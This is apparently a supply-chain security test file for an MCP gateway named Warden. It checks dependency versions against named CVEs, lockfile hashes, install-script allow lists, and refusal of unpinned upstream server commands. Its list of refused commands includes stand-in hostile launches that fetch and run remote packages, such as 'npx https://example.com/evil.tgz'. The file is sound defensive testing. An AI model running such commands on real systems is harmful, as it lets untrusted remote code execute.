import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { unpinnedPackage } from '../../src/gateway/package-pinning.js'
import { mcpClient } from '../fakes/gateway.js'
import { type Secured, startSecured } from './fixture.js'

/** Catalogue section I: supply chain (../shared/research/attacks.md). */

const ROOT = new URL('../../', import.meta.url).pathname

function installed(name: string): number[] {
  const { version } = JSON.parse(readFileSync(join(ROOT, 'node_modules', name, 'package.json'), 'utf8')) as {
    version: string
  }
  return version.split(/[.-]/).slice(0, 3).map(Number)
}

/** `a >= b` for [major, minor, patch]. */
function atLeast(a: number[], b: number[]): boolean {
  for (let i = 0; i < 3; i++) if ((a[i] ?? 0) !== (b[i] ?? 0)) return (a[i] ?? 0) > (b[i] ?? 0)
  return true
}

describe('SC-01 known-vulnerable dependencies', () => {
  it('runs jose past CVE-2024-28176 and the MCP SDK past GHSA-345p, GHSA-f897 and GHSA-46jr', () => {
    const jose = installed('jose')
    expect((jose[0] ?? 0) >= 5 || atLeast(jose, [4, 15, 5])).toBe(true)
    expect(atLeast(installed('@modelcontextprotocol/sdk'), [1, 32, 0])).toBe(true)
    expect(installed('@cedar-policy/cedar-wasm')[0]).toBeGreaterThanOrEqual(4)
    // The ranges in package.json cannot fall back below those lines either.
    const manifest = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as {
      dependencies: Record<string, string>
    }
    expect(manifest.dependencies['@modelcontextprotocol/sdk']).toMatch(/^\^1\.(3[2-9]|[4-9]\d)\./)
    expect(manifest.dependencies.jose).toMatch(/^\^6\./)
  })

  it.todo(
    '`npm audit --omit=dev --audit-level=high` reports nothing: needs the registry advisory endpoint, which this machine cannot reach (405 from its mirror)',
  )
})

describe('SC-02 install-time code execution and lockfile drift', () => {
  const lock = JSON.parse(readFileSync(join(ROOT, 'package-lock.json'), 'utf8')) as {
    packages: Record<
      string,
      { integrity?: string; resolved?: string; link?: boolean; hasInstallScript?: boolean }
    >
  }
  const entries = Object.entries(lock.packages).filter(([path, entry]) => path !== '' && !entry.link)

  it('pins every locked package by a sha512 integrity hash, and resolves only from the registry over https', () => {
    expect(entries.length).toBeGreaterThan(100)
    expect(
      entries.filter(([, entry]) => !entry.integrity?.startsWith('sha512-')).map(([path]) => path),
    ).toEqual([])
    expect(
      entries
        .filter(
          ([, entry]) =>
            entry.resolved !== undefined && !entry.resolved.startsWith('https://registry.npmjs.org/'),
        )
        .map(([path]) => path),
    ).toEqual([])
  })

  it('runs install scripts only for the allow-listed packages', () => {
    const manifest = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as {
      allowScripts: Record<string, boolean>
    }
    const withScripts = entries
      .filter(([, entry]) => entry.hasInstallScript)
      .map(([path]) => path.replace(/^.*node_modules\//, ''))
    expect(withScripts.every((name) => manifest.allowScripts[name] === true)).toBe(true)
  })

  it.todo('`npm audit signatures` verifies provenance: needs the registry, unreachable here')
})

describe('SC-03 upstream MCP server pinning', () => {
  it.each([
    [['npx', 'some-mcp@^1']],
    [['npx', '-y', 'some-mcp']],
    [['npx', '--yes', 'some-mcp@latest']],
    [['npx', '-y', '@scope/server@~2.1.0']],
    [['npx', '-p', 'some-mcp@1', 'some-mcp']],
    [['/usr/bin/npx', 'some-mcp@>=1.0.0']],
    [['npm', 'exec', '--', 'some-mcp@^1']],
    [['pnpm', 'dlx', 'some-mcp']],
    [['bunx', 'some-mcp@1.x']],
    [['uvx', 'mcp-server-fetch']],
    [['uvx', '--from', 'mcp-server-git>=1.0', 'mcp-server-git']],
    [['pipx', 'run', 'mcp-server-time']],
    [['docker', 'run', '-i', '--rm', 'mcp/fetch:latest']],
    [['npx', 'https://example.com/evil.tgz']],
    [['npx', 'github:evil/mcp']],
  ])('refuses %j', (command) => {
    expect(unpinnedPackage(command)).toBeTypeOf('string')
  })

  it.each([
    [['npx', '-y', 'some-mcp@1.0.16']],
    [['npx', '-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/workspace']],
    [['npx', '-p', 'some-mcp@1.2.3', 'some-mcp', '--flag']],
    [['npm', 'exec', '--', 'some-mcp@1.2.3-beta.1']],
    [['uvx', 'mcp-server-fetch==2025.4.7']],
    [['uvx', '--from', 'mcp-server-git==1.2.0', 'mcp-server-git']],
    [['docker', 'run', '-i', `mcp/fetch@sha256:${'a'.repeat(64)}`]],
    [['node', 'server.js']],
    [['npx', './local-server']],
  ])('accepts %j (positive control)', (command) => {
    expect(unpinnedPackage(command)).toBeUndefined()
  })

  describe('from outside: a configured `npx pkg@^1` upstream is never spawned', () => {
    let s: Secured
    let bin: string
    const marker = () => join(bin, 'spawned')
    beforeAll(async () => {
      // A fake `npx` first on the upstream's PATH: it records being run, then serves MCP (server-everything).
      bin = mkdtempSync(join(tmpdir(), 'warden-npx-'))
      const everything = join(ROOT, 'node_modules/@modelcontextprotocol/server-everything/dist/index.js')
      writeFileSync(
        join(bin, 'npx'),
        `#!/bin/sh\necho "$@" >> "${join(bin, 'spawned')}"\nexec "${process.execPath}" "${everything}" stdio\n`,
      )
      chmodSync(join(bin, 'npx'), 0o755)
      const env = { PATH: `${bin}:${process.env.PATH ?? ''}` }
      s = await startSecured({
        config: {
          upstreams: {
            floating: { command: ['npx', '-y', 'everything-mcp@^1'], env },
            pinned: { command: ['npx', '-y', 'everything-mcp@1.0.0'], env },
          },
        },
      })
    })
    afterAll(async () => {
      await s?.close()
      rmSync(bin, { recursive: true, force: true })
    })

    it('spawns the pinned spec (positive control) and refuses the range, which never runs', async () => {
      const pinned = await mcpClient(`${s.url}/mcp/pinned`, s.agent, s.task)
      await pinned.close()
      // The session opens (the gateway answers `initialize` itself), but nothing behind it runs.
      const floating = await mcpClient(`${s.url}/mcp/floating`, s.agent, s.task)
      const outcome = await floating.callTool({ name: 'echo', arguments: { message: 'x' } }).then(
        () => 'forwarded',
        (error: unknown) => String(error),
      )
      await floating.close()
      expect(outcome).not.toBe('forwarded')
      expect(existsSync(marker())).toBe(true)
      expect(readFileSync(marker(), 'utf8').trim().split('\n')).toEqual(['-y everything-mcp@1.0.0'])
    })
  })

  it.todo(
    'a changed artifact behind the same version quarantines the upstream: tool definitions are pinned (MC-07), package tarballs are not hashed by Warden — pin them with a lockfile and run `node path/to/server.js`',
  )
})
